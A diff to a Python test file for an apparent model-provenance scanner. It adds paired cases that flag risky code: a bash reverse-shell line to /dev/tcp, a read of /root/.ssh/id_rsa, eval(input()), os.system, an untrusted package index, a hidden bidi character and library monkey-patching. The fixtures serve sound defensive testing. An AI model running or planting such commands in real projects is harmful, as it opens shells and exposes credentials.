@@ -7,7 +7,9 @@ import json
 import pickle
 from typing import Any
 
+from provenance.facts import TextFact
 from provenance.records import Evidence, ModelEvidence, Rejection, Relation, ShardIndex, TensorState
+from provenance.surfaces.code import sources
 from provenance.surfaces.template_text import MAX_SHOWN
 from tests.checks.models import comparison, content, contents, evidence, header, lineage, model
 from tests.surfaces import samples
@@ -76,6 +78,13 @@ def tokenizer(**model_parts: Any) -> ModelEvidence:
     return contents(json_file("tokenizer.json", {**BPE, "model": {**BPE["model"], **model_parts}}))
 
 
+def sourced(**named: bytes) -> Evidence:
+    """A model of files, its source code looked into; `__` in a name is a dot."""
+    seen = contents({name.replace("__", "."): data for name, data in named.items()})
+    texts = [fact for fact in seen.facts if isinstance(fact, TextFact)]
+    return evidence(dataclasses.replace(seen, facts=(*seen.facts, *sources(texts))))
+
+
 HONEST = {"a": ONE, "b": TWO}
 HELD = {ONE: ["a"], TWO: ["b"]}
 CALLING = pickle.dumps(samples.Calls(), 4)
@@ -132,6 +141,40 @@ CASES: dict[str, tuple[Evidence, Evidence]] = {
     "python-file": (files(modeling_x__py=b"import os\n"), files(README__md=b"    import os\n")),
     "notebook-file": (files(demo__ipynb=b'{"cells": []}'), files(config__json=b"{}")),
     "script-file": (files(setup__sh=b"#!/bin/sh\necho\n"), files(README__md=b"    #!/bin/sh\n")),
+    "code-runs-programs": (
+        sourced(modeling_x__py=b"import os\nos.system('true')\n"),
+        sourced(modeling_x__py=b"import os\nos.path.join('system', 'popen')\n"),
+    ),
+    "code-uses-network": (
+        sourced(handler__py=b"import requests\nrequests.post('https://example.invalid')\n"),
+        sourced(handler__py=b"def answer(requests):\n    return requests.post\n"),
+    ),
+    "code-reads-secrets": (
+        sourced(modeling_x__py=b"open('/root/.ssh/id_rsa')\n"),
+        sourced(modeling_x__py=b'"""Never reads ~/.ssh/id_rsa."""\n'),
+    ),
+    "code-executes-data": (
+        sourced(modeling_x__py=b"eval(input())\n"),
+        sourced(modeling_x__py=b"model = None\nmodel.eval()\n"),
+    ),
+    "code-hidden": (
+        sourced(modeling_x__py="x = 1  # \u202e\n".encode()),
+        sourced(modeling_x__py="x = 'مرحبا'\n".encode()),
+    ),
+    "code-persists": (
+        sourced(install__sh=b"bash -i >& /dev/tcp/127.0.0.1/9 0>&1\n"),
+        sourced(install__sh=b"pip install -r requirements.txt\n"),
+    ),
+    "code-patches-libraries": (
+        sourced(modeling_x__py=b"import transformers\ntransformers.GenerationMixin.generate = None\n"),
+        sourced(modeling_x__py=b"import torch\ntorch.backends.cudnn.benchmark = True\n"),
+    ),
+    "code-runs-unasked": (sourced(sitecustomize__py=b"x = 1\n"), sourced(modeling_json__py=b"x = 1\n")),
+    "install-source": (
+        sourced(requirements__txt=b"--index-url https://example.invalid/simple\n"),
+        sourced(requirements__txt=b"--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.13.0\n"),
+    ),
+    "code-unreadable": (sourced(old__py=b"print 'x'\n"), sourced(new__py=b"print('x')\n")),
     "remote-code": (
         evidence(contents(json_file("config.json", {"auto_map": CODE}))),
         evidence(contents(json_file("config.json", {"auto_map": {}, "architectures": ["Model"]}))),
